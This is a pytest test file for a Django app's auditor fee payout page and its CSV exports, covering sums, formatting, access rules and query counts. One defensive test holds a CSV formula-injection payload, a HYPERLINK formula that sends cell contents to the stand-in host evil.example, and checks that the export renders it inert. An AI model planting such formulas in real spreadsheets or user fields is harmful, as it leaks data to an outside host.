"""Fees for payout: sums per auditor over a period, the CSV files, and who may see them."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from audits.forms.payout import previous_month
from audits.models import FeeEntry
from audits.tests.factories import AuditFactory, FeeEntryFactory
from brukarkraft.roles import Role
from brukarkraft.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}


@pytest.fixture
def two_auditors():
    """Anna and Bertil log fees in March; one of Anna's entries is in April (outside)."""
    audit = AuditFactory(reference="BR-2026-00042")
    anna = UserFactory(full_name="Anna Ek", email="anna@example.se", roles=[Role.AUDITOR])
    bertil = UserFactory(full_name="Bertil Ås", email="bertil@example.se", roles=[Role.AUDITOR])
    FeeEntryFactory(
        audit=audit,
        auditor=anna,
        worked_on=date(2026, 3, 2),
        hours=Decimal("3.50"),
        hourly_rate=Decimal("200.00"),
        travel_km=40,
        travel_cost=Decimal("0"),
    )
    FeeEntryFactory(
        audit=audit,
        auditor=anna,
        worked_on=date(2026, 3, 31),
        activity=FeeEntry.Activity.ANALYSIS,
        hours=Decimal("2.00"),
        hourly_rate=Decimal("200.00"),
        travel_km=0,
        travel_cost=Decimal("125.50"),
    )
    FeeEntryFactory(
        audit=audit,
        auditor=anna,
        worked_on=date(2026, 4, 1),
        hours=Decimal("8.00"),
        hourly_rate=Decimal("200.00"),
    )
    FeeEntryFactory(
        audit=audit,
        auditor=bertil,
        worked_on=date(2026, 3, 1),
        hours=Decimal("1.25"),
        hourly_rate=Decimal("250.00"),
        travel_km=10,
        travel_cost=Decimal("0"),
    )
    return anna, bertil


def row_of(rows, name):
    return next(row for row in rows if row["auditor__full_name"] == name)


def test_the_page_sums_each_auditors_fees_in_the_period_and_leaves_out_the_rest(
    client, staff, two_auditors
):
    client.force_login(staff)

    response = client.get(reverse("audits:fees_payout"), MARCH)

    assert response.status_code == 200
    rows = response.context["rows"]
    anna = row_of(rows, "Anna Ek")
    assert anna["hours"] == Decimal("5.50")
    assert anna["fee"] == Decimal("1100.00")
    assert anna["mileage"] == Decimal("100.00")
    assert anna["travel_cost"] == Decimal("125.50")
    assert anna["total"] == Decimal("1325.50")
    assert anna["entries"] == 2
    bertil = row_of(rows, "Bertil Ås")
    assert bertil["fee"] == Decimal("312.50")
    assert bertil["total"] == Decimal("337.50")
    assert response.context["totals"]["total"] == Decimal("1663.00")
    assert response.context["totals"]["entries"] == 3


def test_the_page_can_show_one_auditor_only(client, staff, two_auditors):
    anna, _bertil = two_auditors
    client.force_login(staff)

    response = client.get(reverse("audits:fees_payout"), {**MARCH, "auditor": anna.pk})

    assert [row["auditor__full_name"] for row in response.context["rows"]] == ["Anna Ek"]


def test_the_page_opens_on_the_previous_calendar_month(client, staff):
    client.force_login(staff)

    response = client.get(reverse("audits:fees_payout"))

    start, end = previous_month()
    assert response.context["start"] == start
    assert response.context["end"] == end
    assert start.day == 1 and end.month == start.month
    assert end < timezone.localdate().replace(day=1)
    assert response.context["rows"] == []


def test_previous_month_of_january_is_december_of_the_year_before():
    assert previous_month(date(2026, 1, 15)) == (date(2025, 12, 1), date(2025, 12, 31))


def test_an_end_before_the_start_is_refused_with_a_message(client, staff, two_auditors):
    client.force_login(staff)

    response = client.get(
        reverse("audits:fees_payout"), {"date_from": "2026-03-31", "date_to": "2026-03-01"}
    )

    assert response.status_code == 200
    assert response.context["rows"] is None
    assert response.context["form"].errors["date_to"]


def test_the_csv_has_a_bom_semicolons_and_one_row_per_auditor(client, staff, two_auditors):
    client.force_login(staff)

    response = client.get(reverse("audits:fees_payout_csv"), MARCH)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 3
    assert lines[0].count(";") == 9
    # Swedish decimal comma, two decimals: the way Swedish Excel reads numbers.
    assert lines[1].split(";") == [
        "Anna Ek",
        "anna@example.se",
        "2026-03-01",
        "2026-03-31",
        "5,50",
        "1100,00",
        "100,00",
        "125,50",
        "1325,50",
        "2",
    ]
    assert lines[2].startswith("Bertil Ås;bertil@example.se;")


def test_the_detail_csv_has_one_row_per_entry(client, staff, two_auditors):
    client.force_login(staff)

    response = client.get(reverse("audits:fees_payout_csv"), {**MARCH, "detail": "1"})

    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 4
    with translation.override("sv"):
        analysis = str(FeeEntry.Activity.ANALYSIS.label)
    assert lines[2].split(";") == [
        "Anna Ek",
        "anna@example.se",
        "2026-03-31",
        "BR-2026-00042",
        analysis,
        "2,00",
        "200,00",
        "0",
        "125,50",
        "525,50",
    ]


def test_the_english_csv_uses_a_decimal_point(client, staff, two_auditors):
    client.force_login(staff)

    with translation.override("en"):
        url = reverse("audits:fees_payout_csv")
    response = client.get(url, MARCH)

    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Auditor;E-mail;")
    assert lines[1].endswith(";1325.50;2")


@pytest.mark.parametrize("name", ["audits:fees_payout", "audits:fees_payout_csv"])
@pytest.mark.parametrize("persona", ["auditor", "commissioner", "outsider"])
def test_only_staff_may_see_the_fees(client, request, persona, name, two_auditors):
    client.force_login(request.getfixturevalue(persona))

    assert client.get(reverse(name), MARCH).status_code == 403


@pytest.mark.parametrize("name", ["audits:fees_payout", "audits:fees_payout_csv"])
def test_an_anonymous_visitor_is_sent_to_log_in(client, name):
    response = client.get(reverse(name))

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_an_administrator_may_see_the_fees(client, admin_user, two_auditors):
    client.force_login(admin_user)

    assert client.get(reverse("audits:fees_payout"), MARCH).status_code == 200


def _auditors_with_fees(count: int) -> None:
    audit = AuditFactory()
    for index in range(count):
        FeeEntryFactory(
            audit=audit,
            auditor=UserFactory(roles=[Role.AUDITOR]),
            worked_on=date(2026, 3, 1 + index % 28),
        )


@pytest.mark.parametrize("name", ["audits:fees_payout", "audits:fees_payout_csv"])
def test_the_query_count_does_not_grow_with_the_number_of_auditors(
    client, staff, name, django_assert_max_num_queries
):
    client.force_login(staff)
    _auditors_with_fees(1)
    client.get(reverse(name), MARCH)  # Warm the session and content-type caches.
    with django_assert_max_num_queries(8) as one:
        client.get(reverse(name), MARCH)

    _auditors_with_fees(20)
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(reverse(name), MARCH)

    assert response.status_code == 200


def test_the_detail_csv_query_count_does_not_grow_with_the_entries(
    client, staff, django_assert_max_num_queries
):
    client.force_login(staff)
    _auditors_with_fees(1)
    url = reverse("audits:fees_payout_csv")
    client.get(url, {**MARCH, "detail": "1"})
    with django_assert_max_num_queries(8) as one:
        client.get(url, {**MARCH, "detail": "1"})

    _auditors_with_fees(20)
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(url, {**MARCH, "detail": "1"})

    assert len(response.content.decode("utf-8-sig").splitlines()) == 22


FORMULA = "=1+1"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.mark.parametrize("detail", [False, True])
def test_a_name_that_is_a_formula_goes_out_inert_and_amounts_stay_numbers(
    client, staff, two_auditors, detail
):
    # Auditors choose their own names; a formula in one must not run in the payout sheet.
    anna, bertil = two_auditors
    anna.full_name = HYPERLINK
    anna.save(update_fields=["full_name"])
    bertil.full_name = FORMULA
    bertil.save(update_fields=["full_name"])
    client.force_login(staff)

    params = {**MARCH, "detail": "1"} if detail else MARCH
    response = client.get(reverse("audits:fees_payout_csv"), params)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + HYPERLINK, "'" + FORMULA}
    hours = rows[1][5] if detail else rows[1][4]
    assert hours[0].isdigit()
